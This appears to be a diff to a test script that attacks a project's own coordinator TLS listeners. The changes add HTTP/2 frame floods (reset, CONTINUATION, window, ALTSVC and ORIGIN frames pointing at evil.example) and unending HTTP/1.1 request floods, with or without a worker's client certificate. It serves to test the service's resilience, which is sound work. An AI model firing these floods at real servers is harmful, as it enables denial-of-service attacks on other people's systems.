@@ -1,19 +1,24 @@
 """Attacks on the coordinator's TLS listeners that a gRPC client cannot make.
 
 usage: attacks.py resume PORT IDENTITY REQUEST FIFO
-       attacks.py flood PORT NAME ROOTS KIND
+       attacks.py flood PORT NAME ROOTS KIND [IDENTITY]
+       attacks.py http PORT NAME ROOTS KIND
 
 resume: asks for a renewal as the host of IDENTITY (a worker's identity.json), prints `served` or `refused`, opens
 FIFO and reads it to its end, asks again over a resumed TLS session, and prints whether the session was resumed and what
 the answer was. If TLS has refused, and not the call, the name of TLS's alert stands after `refused`.
 
-flood: opens a connection without a credential, sends 20,000 frames of one KIND, and prints how it ended. What the coordinator
-answers is not read: that is part of the attack.
+flood: opens a connection without a credential, or with the certificate of a host (IDENTITY is a worker's
+identity.json), sends 20,000 frames of one KIND, and prints how it ended. What the coordinator answers is not read: that
+is part of the attack.
+
+http: sends a request of HTTP/1.1 that does not end, of one KIND, over TLS, and prints how it ended.
 """
 import json, socket, ssl, struct, sys, tempfile
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+ALTSVC, ORIGIN = 10, 12  # RFC 7838, RFC 8336
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -100,8 +105,9 @@ def resume(port, identity, request, fifo):
     print("resumed" if reused else "not resumed", answer, flush=True)
 
 
-def flood(port, name, roots, kind):
-    connection = connect(context(open(roots).read()), port, name)
+def flood(port, name, roots, kind, identity=None):
+    identity = json.load(open(identity)) if identity else {}
+    connection = connect(context(open(roots).read(), identity.get("certificate"), identity.get("key")), port, name)
     start = head(b"/baton.v1.Operators/List", name.encode())
     bursts = {
         "reset": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(RST_STREAM, 0, 2 * n + 1, b"\0\0\0\x08"),
@@ -114,20 +120,45 @@ def flood(port, name, roots, kind):
         "empty-data": lambda n: frame(HEADERS, 4, 1, start) if n == 0 else frame(DATA, 0, 1),
         "window": lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
         "unfinished": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(DATA, 0, 2 * n + 1, b"\0\0\xff\xff\xff"),
+        "altsvc": lambda n: frame(ALTSVC, 0, 0, b"\0\x05https" + b'h2="evil.example:443"; ma=86400'),
+        "origin": lambda n: frame(ORIGIN, 0, 0, b"\0\x14https://evil.example"),
         "table": lambda n: frame(HEADERS, 4, 2 * n + 1, start + b"\x40\x01a\x7f\x00" + b"b" * 127 + b"\xbe" * 512),
     }
-    burst, sent, how = bursts[kind], 0, "still open"
+    burst = bursts[kind]
+    greeting = PREFACE + frame(SETTINGS, 0, 0)
+    pour(connection, greeting, lambda first: b"".join(burst(n) for n in range(first, first + 100)), "frames")
+
+
+def http(port, name, roots, kind):
+    tls = context(open(roots).read())
+    tls.set_alpn_protocols(["http/1.1"])
+    connection = connect(tls, port, name)
+    head = b"POST /v1/pokes/com.example.x HTTP/1.1\r\nHost: x\r\n"
+    floods = {
+        "headers": (head, lambda n: b"".join(b"a%d: %s\r\n" % (n + i, b"b" * 64) for i in range(100))),
+        "header": (head + b"a: ", lambda n: b"b" * 6400),
+        "target": (b"GET /", lambda n: b"b" * 6400),
+        "body": (head + b"Content-Length: 99999999999\r\n\r\n", lambda n: b"b" * 65536),
+        "chunks": (head + b"Transfer-Encoding: chunked\r\n\r\n", lambda n: b"1\r\nb\r\n" * 1000),
+        "pipeline": (b"", lambda n: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 100),
+    }
+    pour(connection, *floods[kind], "parts")
+
+
+def pour(connection, greeting, part, unit):
+    """Sends the greeting and 200 parts, 100 of the unit each, and prints how it ended."""
+    sent, how = 0, "still open"
     connection.settimeout(5)
     try:
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        connection.sendall(greeting)
         for first in range(0, 20000, 100):
-            connection.sendall(b"".join(burst(n) for n in range(first, first + 100)))
+            connection.sendall(part(first))
             sent = first + 100
     except socket.timeout:
         how = "not read any more"
     except (ssl.SSLError, ConnectionError, OSError):
         how = "closed"
-    print(f"{how} after {sent} frames", flush=True)
+    print(f"{how} after {sent} {unit}", flush=True)
 
 
 if __name__ == "__main__":
@@ -135,5 +166,7 @@ if __name__ == "__main__":
         resume(int(sys.argv[2]), sys.argv[3], open(sys.argv[4], "rb").read(), sys.argv[5])
     elif sys.argv[1:2] == ["flood"]:
         flood(int(sys.argv[2]), *sys.argv[3:])
+    elif sys.argv[1:2] == ["http"]:
+        http(int(sys.argv[2]), *sys.argv[3:])
     else:
         sys.exit(__doc__)
